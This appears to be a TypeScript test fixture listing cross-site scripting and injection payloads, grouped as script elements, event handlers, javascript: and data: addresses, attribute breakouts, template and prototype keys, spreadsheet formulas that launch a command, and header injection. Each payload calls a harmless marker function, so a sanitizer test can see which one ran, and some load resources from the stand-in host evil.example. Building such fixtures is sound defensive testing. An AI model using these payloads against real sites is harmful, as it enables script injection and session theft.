/**
 * Texts that would run a script, load something or change the page if any of them were taken for markup, an address or a template. Each calls
 * `window.__ran(n)` where it can, with its own number, so that a test sees which one ran. Written for this project after the classes of the
 * OWASP cheat sheet on filter evasion (2025): elements, attributes, addresses, styles, templates, prototype keys, Unicode and spreadsheets.
 */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...elements(),
  ...handlers(),
  ...addresses(),
  ...breakouts(),
  ...others(),
].map((text, index) => text.replaceAll("RUN", `window.__ran(${index})`));

function elements(): readonly string[] {
  return [
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script src=data:text/javascript,RUN></script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:,RUN />",
    "<math><mtext><script>RUN</script></mtext></math>",
    "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><script>RUN</script>'>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action='javascript:RUN'><button>Save</button></form>",
    "<isindex action=javascript:RUN type=image>",
    "<frameset onload=RUN>",
    "<plaintext>RUN",
    "<!--><script>RUN</script>-->",
    "<![CDATA[<script>RUN</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
    "<custom-element onfocus=RUN tabindex=1 autofocus>",
  ];
}

function handlers(): readonly string[] {
  const onLoad = [
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
  ];
  const onOther = [
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "keygen autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "div onpointerover",
    "p onanimationstart style=animation-name:spin",
    "a onmouseover",
    "button onclick",
    "video><source onerror",
    "img srcset=x onerror",
    "image src=x onerror",
    "svg><animate onbegin",
    "svg><set onend",
    "object onerror",
    "dialog open oncancel",
    "div popover onbeforetoggle",
    "style onload",
    "link rel=x onerror",
  ];
  return [
    ...[...onLoad, ...onOther].map((start) => `<${start}=RUN>`),
    '<img src="x" onerror="RUN">',
    "<img src='x' onerror='RUN'>",
    "<img src=`x` onerror=`RUN`>",
    "<img/src=x/onerror=RUN>",
    "<img\tsrc=x\tonerror=RUN>",
    "<img\u000csrc=x onerror=RUN>",
    "<IMG SRC=x OnErRoR=RUN>",
    "<img src=x onerror=&#87;&#105;ndow;RUN>",
    "<img src=x:x onerror=RUN//",
    "<<img src=x onerror=RUN>>",
    "<img src=x onerror\u0000=RUN>",
  ];
}

function addresses(): readonly string[] {
  return [
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "javascript&colon;RUN",
    "&#106;avascript:RUN",
    "javascript://%0aRUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:RUN",
    "blob:RUN",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "<a href='javascript:RUN'>Click</a>",
    "[Click](javascript:RUN)",
    "![x](javascript:RUN)",
    "<a href=\u0001javascript:RUN>Click</a>",
    "<a target=_blank href=data:text/html,<script>RUN</script>>Click</a>",
  ];
}

function breakouts(): readonly string[] {
  return [
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    "`><script>RUN</script>",
    '" onmouseover="RUN',
    "' onmouseover='RUN",
    '" autofocus onfocus="RUN" x="',
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "</script><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "';RUN;//",
    '";RUN;//',
    "\\';RUN;//",
    "${RUN}",
    "#{RUN}",
    "\u2028RUN",
    "</pre><img src=x onerror=RUN>",
    "*/RUN/*",
  ];
}

function others(): readonly string[] {
  return [
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "<%= RUN %>",
    "${{RUN}}",
    "[[RUN]]",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "%3Cscript%3ERUN%3C/script%3E",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u202Etxt.exe<script>RUN</script>",
    "expression(RUN)",
    "style=behavior:url(//evil.example/x.htc)",
    "url(javascript:RUN)",
    "x\r\nSet-Cookie: a=b",
    "<x xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:RUN'>",
  ];
}
